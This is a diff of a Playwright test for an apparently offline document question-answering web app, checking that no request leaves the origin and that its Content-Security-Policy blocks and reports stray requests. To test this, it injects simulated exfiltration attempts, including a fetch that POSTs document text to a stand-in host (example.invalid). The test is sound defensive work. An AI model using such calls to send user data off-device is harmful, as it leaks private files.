@@ -2,74 +2,39 @@
 
 One session walks what a person does: open the page, drop real files of every format (and a bad
 one), ask, open a citation, reload (the library is still there, nothing is embedded again), then
-stop the server and ask again offline. Every request of the session is recorded: none may leave
-the origin.
+stop the server and ask again offline. Every request of the session is recorded, the page's, its
+workers' and the service worker's: none may leave the origin, the page says so, and an attempt to
+reach another address is blocked and shown.
 """
 
 from __future__ import annotations
 
-import base64
 import socket
-import subprocess
-import sys
 from urllib.parse import urlparse
 
+from playwright.sync_api import expect
 
+from browser_app import ANSWER, RECORD_VIOLATIONS, STARTUP, Serve, app_worker, ask, drop, wait_until
 from quire_build import ROOT
 from quire_build.serve import Background
-from quire_build.site import build_site
+from quire_build.site import PAGE_POLICY, WORKER_POLICY, build_site
 from quire_build.toolchain import chromium
 from samples import LIBRARY, make_pdf
 
 BROKEN = ("scan.pdf", make_pdf([[]]))  # dropped on the drop zone, separately
-STARTUP = 240_000  # ms: a cold start loads Pyodide and ~200 MB of models on a loaded 2-core machine
-ANSWER = 180_000
-
+NOTHING_LEAVES = "leaves this device"
 
 ARTIFACTS = ROOT / "test-artifacts"
-
-
-class Serve:
-    """`python3 build.py serve` in a child process: the command a person runs."""
-
-    def __enter__(self) -> str:
-        with socket.socket() as s:
-            s.bind(("127.0.0.1", 0))
-            port = s.getsockname()[1]
-        self.process = subprocess.Popen([sys.executable, str(ROOT / "build.py"), "serve", "--port", str(port)],
-                                        cwd=ROOT, stdout=subprocess.PIPE, text=True)
-        for line in self.process.stdout:
-            if "Quire is served at" in line:
-                return line.split("at ", 1)[1].split()[0].rstrip("/")
-        raise RuntimeError(f"build.py serve exited with {self.process.wait()}")
-
-    def __exit__(self, *exc) -> None:
-        self.process.terminate()
-        self.process.wait(30)
-
-
-def ask(page, question: str) -> None:
-    page.fill("#question", question)
-    page.click("#ask")
-    page.wait_for_selector("#stop", state="hidden", timeout=ANSWER)
-
-
-def drop(page, name: str, data: bytes) -> None:
-    """A real drop event on the drop zone, carrying a file."""
-    page.evaluate("""([name, b64]) => {
-        const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
-        const transfer = new DataTransfer();
-        transfer.items.add(new File([bytes], name));
-        document.getElementById("dropzone").dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true }));
-    }""", [name, base64.b64encode(data).decode()])
 
 
 def test_add_ask_cite_reload_and_work_offline(built_models, tmp_path):
     for name, data in LIBRARY.items():
         (tmp_path / name).write_bytes(data)
-    requests: list[str] = []
+    requests = []
     with chromium() as browser:
-        browser.on("request", lambda request: requests.append(request.url))
+        # Playwright reports the requests of the page, its workers and the service worker here.
+        browser.on("request", lambda request: requests.append(request))
+        browser.add_init_script(RECORD_VIOLATIONS)
         server = Serve()
         url = server.__enter__()
         page = browser.new_page()
@@ -78,11 +43,13 @@ def test_add_ask_cite_reload_and_work_offline(built_models, tmp_path):
         assert page.is_visible("#dropzone")
         page.wait_for_selector("body.ready", timeout=STARTUP)
         assert "on this device" in page.text_content("#engine")
+        expect(page.locator("#egress")).to_contain_text(NOTHING_LEAVES)
+        expect(page.locator("#egress")).to_contain_text("all to this site")
 
         page.set_input_files("#picker", [str(tmp_path / name) for name in LIBRARY])
         drop(page, *BROKEN)
-        page.wait_for_function("document.querySelectorAll('#documents li').length === 5"
-                               " && document.querySelectorAll('#ingest li.failed').length === 1", timeout=ANSWER)
+        expect(page.locator("#documents li")).to_have_count(5, timeout=ANSWER)
+        expect(page.locator("#ingest li.failed")).to_have_count(1, timeout=ANSWER)
         failed = page.text_content("#ingest li.failed")
         assert "scan.pdf" in failed and "no text layer" in failed
         assert page.locator("#documents li").count() == 5
@@ -103,7 +70,7 @@ def test_add_ask_cite_reload_and_work_offline(built_models, tmp_path):
         # A question can be stopped: the answer ends early and says so.
         page.fill("#question", "Describe the orchard, the harvest, the bees and the tea room in detail.")
         page.click("#ask")
-        page.wait_for_function("document.getElementById('answer').textContent.length > 0", timeout=ANSWER)
+        expect(page.locator("#answer")).not_to_be_empty(timeout=ANSWER)
         page.click("#stop")
         page.wait_for_selector("#stop", state="hidden", timeout=ANSWER)
         assert "stopped" in page.text_content("#answer-meta")
@@ -111,14 +78,16 @@ def test_add_ask_cite_reload_and_work_offline(built_models, tmp_path):
         # After a reload the library is there and answers come without embedding anything again.
         page.reload()
         page.wait_for_selector("body.ready", timeout=STARTUP)
-        page.wait_for_function("document.querySelectorAll('#documents li').length === 5")
+        expect(page.locator("#documents li")).to_have_count(5)
+        # Every file this visit fetched came from the service worker's cache.
+        expect(page.locator("#egress")).to_contain_text(f"Offline-ready · nothing {NOTHING_LEAVES}", timeout=30_000)
         ask(page, "When does the farm shop open?")
         assert "shop.html" in page.text_content("#sources")
         assert page.locator("#ingest li").count() == 0
 
         # Removing a document takes it out of the answers.
         page.click("#documents li:has-text('tea.txt') button")
-        page.wait_for_function("document.querySelectorAll('#documents li').length === 4")
+        expect(page.locator("#documents li")).to_have_count(4)
         ask(page, "What does the tea room serve?")
         assert "tea.txt" not in page.text_content("#sources")
 
@@ -134,21 +103,67 @@ def test_add_ask_cite_reload_and_work_offline(built_models, tmp_path):
         page.click("#clear")
         page.wait_for_selector("#empty-library", state="visible")
         assert page.locator("#documents li").count() == 0
+        assert page.evaluate("window.cspViolations") == [], "the app itself never trips its own policy"
+        expect(page.locator("#egress")).not_to_have_class("chip warning")
+
+        # Off-origin attempts, from the page and from its worker, to a port that listens: the policy
+        # refuses them before any connection, and the page names the addresses it refused.
+        with socket.socket() as listener:
+            listener.bind(("127.0.0.1", 0))
+            listener.listen()
+            listener.setblocking(False)
+            elsewhere = f"127.0.0.1:{listener.getsockname()[1]}"
+            page.evaluate("fetch('http://example.invalid/upload', { method: 'POST', body: 'a document' })"
+                          ".catch(() => {})")
+            page.evaluate(f"document.body.append(Object.assign(new Image(), {{ src: 'http://{elsewhere}/pixel.png' }}))")
+            app_worker(page).evaluate(f"fetch('http://{elsewhere}/from-the-worker').catch(() => {{}})")
+            expect(page.locator("#egress")).to_have_class("chip warning")
+            expect(page.locator("#egress")).to_contain_text("Blocked a request to")
+            expect(page.locator("#egress")).to_contain_text("example.invalid")
+            expect(page.locator("#egress")).to_contain_text(elsewhere)
+            page.wait_for_timeout(1000)
+            try:
+                listener.accept()
+                raise AssertionError(f"something connected to {elsewhere}")
+            except BlockingIOError:
+                pass
+        refused = {(v["directive"], v["blocked"]) for v in page.evaluate("window.cspViolations")}
+        assert refused == {("connect-src", "http://example.invalid/upload"),
+                           ("img-src", f"http://{elsewhere}/pixel.png")}
 
     origin = urlparse(url).netloc
-    strays = [r for r in requests if urlparse(r).scheme in ("http", "https") and urlparse(r).netloc != origin]
-    assert not strays, strays
+    strays = [r for r in requests
+              if urlparse(r.url).scheme in ("http", "https") and urlparse(r.url).netloc != origin]
+    # The only one is the injected <img>, which the browser stopped before sending (a blocked fetch()
+    # is not even reported as a request).
+    assert [(r.url, r.failure) for r in strays] == [(f"http://{elsewhere}/pixel.png", "csp")]
+    # The record holds what the workers and the service worker fetched, not only the page.
+    paths = {urlparse(r.url).path for r in requests}
+    assert {"/precache.json", "/sw-version.js", "/wheels/pyodide-lock.json",
+            "/models/all-minilm-l6-v2/onnx/model_quantized.onnx", "/ort/ort-wasm-simd-threaded.wasm"} <= paths
 
 
 def test_a_plain_static_host_gets_threads_and_a_software_gpu_is_not_used(built_models):
     """The service worker adds COOP/COEP, so onnxruntime runs threads on a host that sends no such
-    headers; and a fallback WebGPU adapter (SwiftShader, ~90x slower than WASM) is passed over."""
+    headers, and the Content-Security-Policy, so the workers have one there too; and a fallback
+    WebGPU adapter (SwiftShader, ~90x slower than WASM) is passed over."""
     dist = build_site()
-    with chromium(["--enable-unsafe-webgpu"]) as browser, Background({"/": dist}, isolate=False) as url:
+    with chromium(["--enable-unsafe-webgpu"]) as browser, Background({"/": dist}, site_headers=False) as url:
+        served = {}  # path -> the Content-Security-Policy of the service worker's latest response
+
+        def note(response):
+            if response.from_service_worker:
+                served[urlparse(response.url).path] = response.headers.get("content-security-policy")
+        browser.on("response", note)
         page = browser.new_page()
         page.goto(url + "/")
-        page.wait_for_function("self.crossOriginIsolated === true", timeout=STARTUP)  # after one reload
+        wait_until(page, "self.crossOriginIsolated", timeout=STARTUP)  # after one reload
         page.wait_for_selector("body.ready", timeout=STARTUP)
+        # The host sent no policy: the page has its <meta>, and the service worker added the headers,
+        # the only policy a worker can get there.
+        assert page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content") == PAGE_POLICY
+        assert served["/"] == PAGE_POLICY
+        assert served["/worker.js"] == WORKER_POLICY
         adapter = page.evaluate("""async () => {
             const a = await navigator.gpu?.requestAdapter();
             return a ? (a.info?.isFallbackAdapter ?? a.isFallbackAdapter) : null; }""")
